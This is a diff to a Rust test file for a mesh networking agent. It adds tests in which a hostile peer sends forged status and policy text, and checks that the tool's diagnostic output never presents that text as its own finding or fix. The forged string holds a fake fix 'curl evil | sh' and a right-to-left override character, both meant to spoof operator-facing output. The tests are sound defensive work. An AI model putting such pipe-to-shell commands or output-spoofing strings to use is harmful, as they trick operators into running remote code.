@@ -1,12 +1,15 @@
-use super::questions::{About, Afresh, DIAL_BACK, SECOND_OPINION};
+use serde_json::{Value, json};
+use starling_gossip::NodeName;
+use starling_transport::Leaf;
+
+use super::questions::{About, Afresh, DIAL_BACK, PING, SECOND_OPINION};
 use super::*;
 use crate::ca::{Authority, LIFETIME};
 use crate::check::peers::{Back, Pong};
-use crate::control::{Control, ControlError};
+use crate::control::{Control, ControlError, Handler, Refused, Who};
 use crate::issuer::Role;
 use crate::state::StateDir;
 use crate::testing::{Agent as Node, Ca, all_know_all};
-use starling_gossip::NodeName;
 use starling_transport::{Revocations, SpiffeId};
 
 async fn three() -> [Node; 3] {
@@ -126,4 +129,136 @@ async fn an_issuer_knows_a_key_that_was_revoked_without_its_line() {
     revocations.add_line(leaves[1].line.as_ref().unwrap().name, id);
     node.host.identities.revoke(revocations);
     assert!(lines(&node.host).await.judge().is_empty());
+}
+
+/// What a peer says so that an operator reads it as ours.
+const FORGED: &str = "0.1.0\nerror: the disk fails (state)\n  fix: curl evil | sh\u{202e}\"";
+
+async fn lies(_host: Arc<Host>, _asker: Leaf, _question: Value) -> Result<Value, Refused> {
+    Ok(json!({
+        "version": FORGED,
+        "now_ms": look::now_ms(),
+        "sees": { "liveness": FORGED, "generation": 1, "sequence": 1 },
+        "heard_ms": null,
+        "documents": FORGED,
+        "newest_document_s": null,
+    }))
+}
+
+async fn lies_of_the_way(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
+    let failed = json!({ "failed": { "reason": FORGED, "why": FORGED } });
+    Ok(json!({ "address": "10.0.0.1:7400", "mesh_port": failed, "another_port": failed }))
+}
+
+async fn lies_of_an_address(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
+    let failed = json!({ "failed": { "reason": "timed_out", "why": "late" } });
+    Ok(json!({ "address": FORGED, "mesh_port": failed, "another_port": null }))
+}
+
+async fn refuses(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
+    Err(Refused::new(http::StatusCode::CONFLICT, FORGED, FORGED))
+}
+
+/// What `starling check` prints of a peer with these handlers.
+async fn printed(theirs: Vec<Handler>) -> String {
+    let ca = Ca::new();
+    let a = ca.agent("a", "web", &[], Control::new(handlers().into()));
+    let b = ca.agent("b", "orders", &[a.addr], Control::new(theirs));
+    all_know_all(&[&a, &b]).await;
+    let agent = Agent {
+        peers: look::at_all(&a.host, others(&a)).await,
+        ..crate::check::tests::agent()
+    };
+    let found = agent.judge();
+    assert!(!found.is_empty());
+    let lines = found
+        .into_iter()
+        .flat_map(|one| [one.what, one.fix].into_iter().chain(one.evidence));
+    lines.collect::<Vec<_>>().join("\u{0}")
+}
+
+#[tokio::test]
+async fn no_answer_of_a_peer_prints_a_finding_or_a_fix_of_its_own() {
+    let from = |path, who| Handler::new(path, Who::Node, who);
+    let cases = [
+        vec![
+            Handler::new(PING, Who::Node, lies),
+            Handler::new(DIAL_BACK, Who::Node, lies_of_the_way),
+        ],
+        vec![
+            Handler::new(PING, Who::Node, lies),
+            Handler::new(DIAL_BACK, Who::Node, lies_of_an_address),
+        ],
+        vec![from(PING, refuses)],
+    ];
+    for theirs in cases {
+        let printed = printed(theirs).await;
+        for line in printed.split('\0') {
+            assert!(
+                !line.contains(|c: char| c.is_control() || c == '\u{202e}'),
+                "{line:?}"
+            );
+            // Whatever it says stands between marks that are ours.
+            let outside: String = line.split('"').step_by(2).collect();
+            assert!(
+                !outside.contains("curl") && !outside.contains("disk"),
+                "{line:?}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn no_verdict_of_a_peer_reads_as_ours() {
+    use crate::agent::explain;
+    use crate::policy::explain::Question;
+    async fn allows(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
+        Ok(json!({
+            "caller": FORGED, "allowed": true, "why": FORGED, "text": FORGED, "rule": FORGED,
+            "mode": FORGED, "mode_declared": FORGED, "path": FORGED,
+        }))
+    }
+    async fn sees(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
+        let route = json!({
+            "rule": FORGED, "declared": FORGED, "action": FORGED, "to": [FORGED], "path": FORGED,
+            "is_answered_here": false,
+        });
+        let place = json!({ "node": "b", "used": true, "because": FORGED });
+        let odd = json!({ "node": FORGED, "used": true, "because": FORGED });
+        Ok(json!({ "node": FORGED, "route": route, "limits": [FORGED], "instances": [place, odd] }))
+    }
+    let ca = Ca::new();
+    let a = ca.agent("a", "web", &[], Control::new(handlers().into()));
+    let theirs = vec![
+        Handler::new("/v1/judge", Who::Node, allows),
+        Handler::new("/v1/explain", Who::Node, sees),
+    ];
+    let b = ca.agent("b", "orders", &[a.addr], Control::new(theirs));
+    all_know_all(&[&a, &b]).await;
+    let question = Question {
+        caller: "web".into(),
+        callee: "orders".into(),
+        ..Question::default()
+    };
+    let from = Some(b.host.node.clone());
+    let explained = explain::explained(a.host.clone(), question, from).await;
+    let explained = explained.unwrap();
+    assert!(explained.instances[0].verdict.is_some(), "{explained:?}");
+    let shown = serde_json::to_value(&explained).unwrap();
+    let (mut texts, mut lies) = (vec![&shown], 0);
+    while let Some(one) = texts.pop() {
+        match one {
+            Value::String(text) if text.contains("curl") => {
+                let odd = |c: char| c.is_control() || c == '\u{202e}';
+                assert!(!text.contains(odd), "{text:?}");
+                let outside: String = text.split('"').step_by(2).collect();
+                assert!(!outside.contains("curl"), "{text:?}");
+                lies += 1;
+            }
+            Value::Array(all) => texts.extend(all),
+            Value::Object(fields) => texts.extend(fields.values()),
+            _ => {}
+        }
+    }
+    assert!(lies >= 15, "{lies} in {shown}");
 }
